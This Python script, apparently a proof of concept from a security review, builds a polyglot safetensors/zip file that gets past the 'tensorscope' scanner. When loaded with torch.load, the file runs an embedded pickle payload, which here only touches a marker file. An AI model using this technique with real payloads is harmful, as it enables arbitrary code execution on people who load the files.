# A valid safetensors file whose 8-byte header length is b"PK\x03\x04\0\0\0\0" (0x04034B50 =
# 67,324,752 bytes of JSON header, padded with spaces) and whose single U8 tensor's data is a
# torch.save-style zip archive. torch.load sniffs the first 4 bytes (PK\x03\x04) and opens it as a
# zip (miniz finds the end record at the end of the file and reads absolute offsets), running
# data.pkl. tensorscope's scan_format takes any file with '{' at byte 8 and a valid safetensors
# header as safetensors and only checks whether the header length starts a pickle.
import io, json, os, struct, sys, zipfile
out = sys.argv[1] if len(sys.argv) > 1 else "polyzip.safetensors"
HLEN = 0x04034B50
evil = b"cposix\nsystem\n(S'touch /tmp/review39/pwned_st_zip'\ntR."
# build the zip with a placeholder base; then rebuild so offsets are absolute in the final file
def make_zip(base):
    b = io.BytesIO(); b.write(b"\0" * base)
    with zipfile.ZipFile(b, "a") as z:
        z.writestr("archive/data.pkl", evil)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return b.getvalue()[base:]
base = 8 + HLEN
z = make_zip(base)
n = len(z)
hdr = json.dumps({"t": {"dtype": "U8", "shape": [n], "data_offsets": [0, n]}}).encode()
hdr = hdr + b" " * (HLEN - len(hdr))
with open(out, "wb") as f:
    f.write(struct.pack("<Q", HLEN)); f.write(hdr); f.write(z)
print(open(out, "rb").read(8))
